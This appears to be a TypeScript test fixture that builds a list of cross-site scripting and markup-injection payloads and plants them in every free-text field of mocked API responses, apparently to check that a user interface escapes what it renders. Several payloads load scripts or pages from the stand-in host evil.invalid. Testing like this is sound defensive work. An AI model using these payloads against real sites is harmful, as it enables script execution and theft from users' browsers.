/** Texts that run script, load something or break out of their place wherever one of the known mistakes was made. */
const run = (n: number) => `globalThis.__ran=${n}`
const away = (n: number) => `https://evil.invalid/${n}`

const makers: readonly ((n: number) => string)[] = [
  // Markup that runs by itself.
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script src="${away(n)}"></script>`,
  (n) => `<img src=x onerror="${run(n)}">`,
  (n) => `<img src="${away(n)}">`,
  (n) => `<svg onload="${run(n)}"></svg>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><animate onbegin="${run(n)}" attributeName=x dur=1s></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run(n)}>#x"></use></svg>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=${n}</script>"></foreignObject></svg>`,
  (n) => `<body onload="${run(n)}">`,
  (n) => `<iframe srcdoc="<script>parent.__ran=${n}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.__ran=${n}"></iframe>`,
  (n) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`,
  (n) => `<embed src="${away(n)}">`,
  (n) => `<video><source onerror="${run(n)}"></video>`,
  (n) => `<audio src=x onerror="${run(n)}"></audio>`,
  (n) => `<details open ontoggle="${run(n)}">x</details>`,
  (n) => `<input autofocus onfocus="${run(n)}">`,
  (n) => `<select autofocus onfocus="${run(n)}"></select>`,
  (n) => `<marquee onstart="${run(n)}">x</marquee>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${run(n)}"></style></mglyph></table></mtext></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript>`,
  (n) => `<template><script>${run(n)}</script></template>`,
  (n) => `<form action="${away(n)}"><button>x</button></form>`,
  (n) => `<link rel="stylesheet" href="${away(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${away(n)}">`,
  (n) => `<base href="${away(n)}/">`,
  (n) => `<style>@import "${away(n)}"; body{background:url(${away(n)})}</style>`,
  // Out of where a text is put.
  (n) => `"><img src=x onerror="${run(n)}">`,
  (n) => `' onmouseover='${run(n)}' x='`,
  (n) => `" autofocus onfocus="${run(n)}`,
  (n) => `</textarea></title></style></script><img src=x onerror="${run(n)}">`,
  (n) => `--><script>${run(n)}</script><!--`,
  (n) => `]]><script>${run(n)}</script>`,
  (n) => `\`-${run(n)}-\``,
  (n) => `\\u003cimg src=x onerror=${run(n)}\\u003e`,
  (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
  (n) => `%3Cimg%20src%3Dx%20onerror%3D${run(n)}%3E`,
  // Addresses.
  (n) => `javascript:${run(n)}`,
  (n) => `java\nscript:${run(n)}`,
  (n) => `\u0001javascript:${run(n)}//https://x.invalid`,
  (n) => `data:text/html,<script>${run(n)}</script>`,
  (n) => `//evil.invalid/${n}`,
  // Markdown.
  (n) => `[click](javascript:${run(n)})`,
  (n) => `![picture](${away(n)})`,
  (n) => `[a]: javascript:${run(n)}\n[a]`,
  (n) => `<javascript:${run(n)}>`,
  (n) => `\`\`\`html\n<script>${run(n)}</script>\n\`\`\``,
  // Templates, styles and signs that change direction.
  (n) => `{{constructor.constructor("${run(n)}")()}} \${${run(n)}} <%= ${run(n)} %>`,
  (n) => `x;background-image:url(${away(n)});y:expression(${run(n)})`,
  (n) => `\u202E>tpircs/<${n}=nar__.sihTlabolg>tpircs<\u202C \u2066<b onclick=${run(n)}>\u2069`,
]

export const payloads: readonly string[] = makers.map((make, n) => make(n + 1))

/** Texts of an answer that a person wrote, or that say what went wrong. */
const free = /^(?:name|description|personality|startScript|content|failure|failureReason|error|message|label|text|value|title|prompt|promptText|previewText|docUrl|result|note)$/i

let turn = 0
const next = () => payloads[(turn += 1) % payloads.length] ?? ''

/**
 * An answer of the API with a payload in every free text: in long ones all of them, in short ones and lines of talk each
 * in its turn, so that a list meets them all. Below arguments and results of tools every text is free, names included.
 */
export function poisoned(value: unknown, key = '', isFree = false): unknown {
  if (typeof value === 'string') {
    if (/^(?:document|personality|failure|failureReason|error)$/.test(key)) return payloads.join('\n\n')
    return isFree || free.test(key) ? next() : value
  }
  if (Array.isArray(value)) return value.map((entry: unknown) => poisoned(entry, key, isFree))
  if (typeof value !== 'object' || value === null) return value
  const below = isFree || /^(?:arguments|result|nodeErrors)$/.test(key)
  // The text of a document is one, that of a transcript has a role beside it.
  const keyOf = (name: string) => (name === 'content' && !('role' in value) ? 'document' : name)
  const members = Object.entries(value).map(([name, member]): [string, unknown] => [name, poisoned(member, keyOf(name), below)])
  return Object.fromEntries(below ? [...members, [next(), next()]] : members)
}
